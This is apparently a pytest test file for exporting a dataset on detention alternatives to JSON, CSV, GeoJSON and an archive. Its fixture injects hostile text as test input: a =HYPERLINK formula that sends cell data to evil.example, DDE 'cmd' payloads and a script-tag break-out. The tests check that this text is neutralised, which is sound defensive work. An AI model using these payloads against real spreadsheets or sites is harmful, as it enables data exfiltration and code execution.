"""What other programs are given: JSON, tables, maps and one archive of all."""

import csv
import hashlib
import io
import json
import os
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import geojson
import polib
import pytest
from frictionless import Package, system
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from openapi_spec_validator import OpenAPIV31SpecValidator, validate

from atd.exports import DownloadFolder, downloads, write_archive
from atd.exports.cell import guarded, quoted, rows_written, unguarded, written
from atd.exports.words import Blanks
from atd.localising.text import State
from atd.pages import Library
from conftest import COLLECTIONS, ROOT, SMALL, TRILINGUAL, copy_repository, library

HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "summary": "\uff1dcmd|' /C calc'!A0 is what a spreadsheet of another script would compute, if it could.",
    "why_listed": "@SUM(1+1)*cmd|' /C calc'!A0 and, after a comma, \"quotes\" and 'more'",
    "context": "\u200b+1+1 stands behind a space that nobody sees.\n\nTwo paragraphs; التنفيذ يبدأ 实施。",
    "results": "'-2+3 begins with an apostrophe of its own.",
    "success_factors": '</script><script>alert(1)</script>","injected"],"x":[{"',
}
"""Texts as somebody might contribute them who means harm."""
CONTEXT = {"contested", "alternative-form-of-detention"}


@pytest.fixture(scope="module")
def shown(tmp_path_factory: pytest.TempPathFactory) -> Library:
    """A few records of every collection: hostile texts, one taken back, one renamed."""
    root = copy_repository(tmp_path_factory.mktemp("data") / "repository", (*SMALL, "au-high-court-nzyq"), TRILINGUAL)
    practices = root / "practices"
    plain = (practices / "no-release-designated-residence.yaml").read_text(encoding="utf-8")
    hostile = re.sub(r"^id: .*$", "id: xx-hostile", plain, count=1, flags=re.MULTILINE)
    for name in HOSTILE:
        hostile = re.sub(rf"^{name}:.*\n(?:(?: .*)?\n)*?(?=\S)", "", hostile, count=1, flags=re.MULTILINE)
    hostile += "".join(f"{name}: {json.dumps(text, ensure_ascii=False)}\n" for name, text in HOSTILE.items())
    hostile = re.sub(r"(?m)^    (publisher|locator): .*$", r"    \1: =1+1", hostile)
    (practices / "xx-hostile.yaml").write_text(hostile, encoding="utf-8")
    _compute(root / "locales" / "ar" / "vocabularies.po")
    gone = plain.replace("id: no-release-designated-residence", "id: no-gone", 1)
    (practices / "no-gone.yaml").write_text(
        gone + 'withdrawn: {date: "2026-11-01", reason: The source was found to be wrong.}\n', encoding="utf-8"
    )
    with (practices / "zm-release-all.yaml").open("a", encoding="utf-8") as file:
        file.write("redirect_from: [zm-former-name]\n")
    for collection in set(COLLECTIONS) - {"practices"}:
        (root / collection).mkdir(exist_ok=True)
        files = sorted((ROOT / collection).glob("*.yaml"))
        placed = [file for file in files if "\ncountries: [" in file.read_text(encoding="utf-8")]
        for file in {*files[:12], *placed[:2]}:
            shutil.copy(file, root / collection)
    file = min((root / "resources").glob("*.yaml"))
    text = re.sub(r"(?m)^publishers: .*$", 'publishers: ["=1+1", "@SUM(1)"]', file.read_text(encoding="utf-8"))
    file.write_text(text, encoding="utf-8")
    return library(root)


def _compute(file: Path) -> None:
    """Let labels and definitions of terms begin as formulas do."""
    po = polib.pofile(str(file))
    for entry in po:
        if entry.msgctxt.startswith(("status.", "instrument.")):
            entry.msgstr = f"=1+1 {entry.msgstr}"
    po.save(str(file))


@pytest.fixture(scope="module")
def folder(shown: Library, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The data as they stand in the site."""
    return publish(shown, tmp_path_factory.mktemp("site"))


def publish(shown: Library, site: Path) -> Path:
    for language in TRILINGUAL:
        for file in downloads(shown.editions, language):
            if isinstance(file, DownloadFolder):
                (site / file.path).mkdir(parents=True, exist_ok=True)
                for name, content in file.contents():
                    (site / file.path / name).write_bytes(content)
            elif file.from_root:
                (site / file.path).parent.mkdir(parents=True, exist_ok=True)
                (site / file.path).write_bytes(file.content())
    write_archive(shown.catalogue.repository, site)
    return site / "data"


def read(file: Path) -> Any:
    return json.loads(file.read_bytes())


def one(folder: Path, address: str) -> dict[str, Any]:
    """Give the record of an answer about a single one."""
    (record,) = read(folder / "v1" / address)["records"]
    return dict(record)


def rows(file: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(file.read_bytes().decode("utf-8-sig"), newline="")))


def all_objects(value: Any) -> Iterator[dict[str, Any]]:
    if isinstance(value, dict):
        yield value
    for child in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from all_objects(child)


def closed(node: Any) -> Any:
    """Forbid fields that the description does not name."""
    if isinstance(node, dict):
        strict = {"additionalProperties": False} if node.get("type") == "object" else {}
        return {name: closed(child) for name, child in node.items()} | strict
    return [closed(child) for child in node] if isinstance(node, list) else node


def validators(folder: Path) -> Iterator[tuple[re.Pattern[str], Draft202012Validator]]:
    description = closed(read(folder / "v1" / "openapi.json"))
    for address, path in description["paths"].items():
        answer = path["get"]["responses"]["200"]["content"]["application/json"]["schema"]
        codes = "|".join(TRILINGUAL)
        pattern = re.escape(address).replace(r"\{id\}", "[a-z0-9-]+").replace(r"\{language\}", f"(?:{codes})")
        yield re.compile(pattern), Draft202012Validator({**answer, "components": description["components"]})


def test_the_description_is_valid(folder: Path) -> None:
    description = read(folder / "v1" / "openapi.json")
    validate(description, cls=OpenAPIV31SpecValidator)
    assert "oneOf" not in json.dumps(description)
    assert "anyOf" not in json.dumps(description)
    assert not any(isinstance(shape.get("type"), list) for shape in all_objects(description))


def test_every_answer_is_as_described_and_every_description_has_an_answer(folder: Path) -> None:
    known, met = list(validators(folder)), set()
    files = [file for file in sorted((folder / "v1").rglob("*.json")) if file.name != "openapi.json"]
    assert len(files) > 4 * (8 + 12 + 12)
    for file in files:
        address = f"/{file.relative_to(folder / 'v1').as_posix()}"
        fitting = [validator for pattern, validator in known if pattern.fullmatch(address)]
        assert fitting, f"{address} is not described"
        for validator in fitting[:1]:
            assert not [f"{address}: {e.json_path} {e.message}" for e in validator.iter_errors(read(file))]
        met |= {pattern for pattern, _ in known if pattern.fullmatch(address)}
    assert met == {pattern for pattern, _ in known}


@pytest.mark.parametrize(
    "harm",
    [
        lambda record: record.update(undescribed=1),
        lambda record: record.update(title="a plain text"),
        lambda record: record["title"].update(state="perfect"),
        lambda record: record["classification"].update(id="wonderful"),
        lambda record: record.pop("standing"),
    ],
)
def test_the_description_refuses_another_shape(folder: Path, harm: Any) -> None:
    validator = next(v for pattern, v in validators(folder) if pattern.fullmatch("/practices.json"))
    answer = read(folder / "v1" / "practices.json")
    assert validator.is_valid(answer)
    harm(answer["records"][0])
    assert not validator.is_valid(answer)


def test_a_text_says_in_which_language_it_is_and_how_it_came_there(folder: Path, shown: Library) -> None:
    original = one(folder, "practices/ca-atd-programme.json")["title"]
    assert original["state"] == "original"
    edition = shown.editions["ar"]
    expected = edition.records["practices", "ca-atd-programme"].text("title")
    told = one(folder, "ar/practices/ca-atd-programme.json")["title"]
    names = {State.MACHINE: "machine-translated"}
    assert told == {"text": expected.value, "language": "ar", "state": names.get(expected.state, expected.state.value)}
    missing = one(folder, "ar/practices/us-isap.json")["title"]
    assert (missing["language"], missing["state"]) == ("en", "missing")


def test_terms_have_labels_in_the_language_asked_for(folder: Path) -> None:
    assert one(folder, "practices/us-isap.json")["countries"] == [{"id": "US"}]
    label = one(folder, "zh/practices/us-isap.json")["countries"][0]["label"]
    assert label == "美国"


def test_class_status_and_setbacks_cannot_be_overlooked(folder: Path) -> None:
    record = one(folder, "en/practices/zm-release-all.json")
    names = list(record)
    assert names.index("standing") < names.index("title")
    for name in ("classification", "status"):
        assert set(record[name]) == {"id", "label"}
    with_setback = [r for r in read(folder / "v1" / "practices.json")["records"] if r["setbacks"]]
    assert with_setback
    for each in with_setback:
        assert each["has_setback"]
        assert all(update["kind"]["id"] == "setback" and update["date"] for update in each["setbacks"])


def test_what_is_no_alternative_is_marked_everywhere(folder: Path) -> None:
    for file in (folder / "v1" / "practices.json", folder / "v1" / "ar" / "practices.json"):
        records = read(file)["records"]
        assert any(r["classification"]["id"] in CONTEXT for r in records)
        for record in records:
            assert (record["standing"] == "context") == (record["classification"]["id"] in CONTEXT)
    for name in ("csv", "zh/csv"):
        for row in rows(folder / name / "practices.csv"):
            assert (row["standing"] == "context") == (row["classification"] in CONTEXT)
    for feature in read(folder / "practices.geojson")["features"]:
        shown = feature["properties"]
        assert (shown["standing"] == "context") == (shown["classification"] in CONTEXT)
    assert not [file for file in folder.rglob("*") if "promising" in file.name]


def test_what_sources_do_not_say_is_named_and_not_guessed(folder: Path) -> None:
    exchanges = read(folder / "v1" / "exchanges.json")["records"]
    silent = [e for e in exchanges if "start" in e["dates"].get("not_reported", ())]
    assert silent
    assert all("start" not in e["dates"] for e in silent)
    assert one(folder, "practices/zm-national-referral-mechanism.json")["liberty"]["device"] == {"id": "not-reported"}
    texts = [o for o in all_objects(read(folder / "v1" / "practices.json")) if "state" in o]
    assert texts
    assert not [o for o in texts if o["text"] == "not-reported"]


def test_what_is_gone_leaves_a_tombstone(folder: Path) -> None:
    answer = read(folder / "v1" / "en" / "practices" / "no-gone.json")
    assert answer["records"] == []
    (tombstone,) = answer["tombstones"]
    assert (tombstone["id"], tombstone["withdrawn"]) == ("no-gone", "2026-11-01")
    assert tombstone["reason"]["text"] == "The source was found to be wrong."
    renamed = read(folder / "v1" / "practices" / "zm-former-name.json")["tombstones"]
    assert renamed == [{"id": "zm-former-name", "redirect": "zm-release-all"}]
    whole = read(folder / "v1" / "practices.json")
    assert [t["id"] for t in whole["tombstones"]] == ["no-gone", "zm-former-name"]
    assert "no-gone" not in {r["id"] for r in whole["records"]}
    assert "no-gone" not in {row["id"] for row in rows(folder / "csv" / "practices.csv")}
    assert "no-gone" not in {f["properties"]["id"] for f in read(folder / "practices.geojson")["features"]}


def test_the_index_leads_to_everything(folder: Path) -> None:
    index = read(folder / "v1" / "index.json")
    assert [language["code"] for language in index["languages"]] == list(TRILINGUAL)
    addresses = [index["vocabularies"], index["description_of_answers"], index["archive"], *index["maps"]]
    addresses += [table["address"] for table in index["tables"]]
    for collection in index["collections"]:
        records = read(folder / "v1" / f"{collection['name']}.json")["records"]
        assert len(records) == collection["records"] > 0
        addresses += [answer["all"] for answer in collection["answers"]]
        addresses += [answer["one"].replace("{id}", records[0]["id"]) for answer in collection["answers"]]
    assert len(addresses) > 30
    assert all((folder / "v1" / address).resolve().is_file() for address in addresses)


def test_vocabularies_have_labels_in_every_language(folder: Path) -> None:
    vocabularies = {v["id"]: v for v in read(folder / "v1" / "vocabularies.json")["vocabularies"]}
    zambia = next(term for term in vocabularies["country"]["terms"] if term["id"] == "ZM")
    assert {label["language"]: label["text"] for label in zambia["labels"]} == {
        "en": "Zambia", "ar": "زامبيا", "zh": "赞比亚",
    }  # fmt: skip
    assert vocabularies["status"]["labels"][0]["state"] == "original"


@pytest.mark.parametrize("place", ["", "ar/"])
def test_the_tables_are_a_valid_data_package(folder: Path, place: str) -> None:
    report = tables(folder / f"{place}datapackage.json").validate()
    assert report.valid, report.flatten(["name", "rowNumber", "fieldName", "note"])[:5]
    assert sum(task.stats.get("rows", 0) for task in report.tasks) > 300


@pytest.mark.parametrize(
    ("table", "old", "new"),
    [
        ("practices_actors", "us-isap", "us-nobody"),  # a row of no record
        ("practices_countries", "ZM", "ZZ"),  # a country that is none
        ("practices", "2026-", "yesterday-"),  # a day that is none
    ],
)
def test_the_package_refuses_tables_that_contradict_themselves(
    folder: Path, tmp_path: Path, table: str, old: str, new: str
) -> None:
    kept = {table, "practices", "vocabulary_country", "vocabulary_region", "vocabulary_review-region"}
    kept |= {"vocabulary_actor-type", "vocabulary_actor-role"}
    package = read(folder / "datapackage.json")
    package["resources"] = [r for r in package["resources"] if r["name"] in kept]
    (tmp_path / "csv").mkdir()
    for resource in package["resources"]:
        del resource["hash"], resource["bytes"]
        resource["schema"]["foreignKeys"] = [
            key for key in resource["schema"].get("foreignKeys", ()) if key["reference"]["resource"] in {*kept, ""}
        ]
        text = (folder / resource["path"]).read_text(encoding="utf-8")
        text = text.replace(old, new) if resource["name"] == table else text
        (tmp_path / resource["path"]).write_text(text, encoding="utf-8", newline="")
    (tmp_path / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    assert not tables(tmp_path / "datapackage.json").validate().valid


def tables(file: Path) -> Package:
    with system.use_context(trusted=True):
        return Package(str(file))


def test_a_spreadsheet_computes_nothing_and_loses_nothing(folder: Path) -> None:
    for place in ("csv", "ar/csv"):
        data = (folder / place / "practices.csv").read_bytes()
        assert data.startswith(b"\xef\xbb\xbf")
        row = next(row for row in rows(folder / place / "practices.csv") if row["id"] == "xx-hostile")
        for name, text in HOSTILE.items():
            assert not re.match(r"[\s\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]", row[name])
            assert unguarded(row[name]) == text
    for file in folder.rglob("*.csv"):
        for row in csv.reader(io.StringIO(file.read_bytes().decode("utf-8-sig"), newline="")):
            assert not [cell for cell in row if cell[:1] in "=+@\t\r" and cell]
    for name, cell in (("practices_sources", ",'=1+1,"), ("resources_publishers", ",'@SUM(1)"), ("practices", ",'=1+1 "), ("vocabulary_status", ",'=1+1 ")):  # fmt: skip
        assert cell in (folder / "ar" / "csv" / f"{name}.csv").read_text(encoding="utf-8"), f"no formula reached {name}"


def test_a_text_that_has_no_name_is_guarded_too(shown: Library) -> None:
    """No schema has such texts today; another repository may."""
    assert Blanks(next(iter(shown.catalogue.by_id.values()))).text_cells("", "=1+1")[0] == "'=1+1"


@given(st.text())
def test_a_guarded_cell_gives_its_text_back(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert not re.match(r"\s*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", cell)


@given(
    st.lists(
        st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])), min_size=2, max_size=2)
    )
)
def test_a_written_table_reads_back(table: list[list[str]]) -> None:
    data = written(["a", "b"], rows_written(table)).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(data, newline="")))[1:] == table
    assert "".join(f"{quoted(a)},{quoted(b)}\r\n" for a, b in table).encode() == rows_written(table)


def test_hostile_texts_stay_texts_in_json(folder: Path) -> None:
    record = one(folder, "practices/xx-hostile.json")
    assert {name: record[name]["text"] for name in HOSTILE} == HOSTILE


@pytest.mark.parametrize("collection", ["practices", "resources", "exchanges"])
def test_the_map_has_a_valid_point_for_each_country(folder: Path, collection: str) -> None:
    found = geojson.loads((folder / f"{collection}.geojson").read_bytes())
    assert found.is_valid
    assert isinstance(found, geojson.FeatureCollection)
    records = read(folder / "v1" / f"{collection}.json")["records"]
    expected = [(record["id"], country["id"]) for record in records for country in record.get("countries", ())]
    assert [(f.properties["id"], f.properties["country"]) for f in found.features] == expected
    assert expected
    for feature in found.features:
        longitude, latitude = feature.geometry.coordinates
        assert -180 <= longitude <= 180
        assert -90 <= latitude <= 90
    assert not geojson.Point((200,)).is_valid


def test_the_archive_holds_everything_and_is_the_same_every_time(folder: Path, shown: Library, tmp_path: Path) -> None:
    file = folder / "atd-practices.zip"
    assert (
        f"{hashlib.sha256(file.read_bytes()).hexdigest()}  {file.name}\n" == file.with_suffix(".zip.sha256").read_text()
    )
    with zipfile.ZipFile(file) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        assert names == sorted(names)
        assert {"v1/practices.json", "csv/practices.csv", "ar/datapackage.json", "practices.geojson"} <= set(names)
        assert not [name for name in names if "practices/" in name]
        for name in names:
            assert archive.read(name) == (folder / name).read_bytes()
    again = publish(shown, tmp_path) / file.name
    for other in again.parent.rglob("*"):
        os.utime(other, (1, 1))
    write_archive(shown.catalogue.repository, tmp_path)
    assert again.read_bytes() == file.read_bytes()


def test_tables_open_when_the_archive_is_unpacked(folder: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(folder / "atd-practices.zip") as archive:
        archive.extractall(tmp_path)
    package = tables(tmp_path / "zh" / "datapackage.json")
    assert [row["id"] for row in package.get_resource("practices").read_rows()]
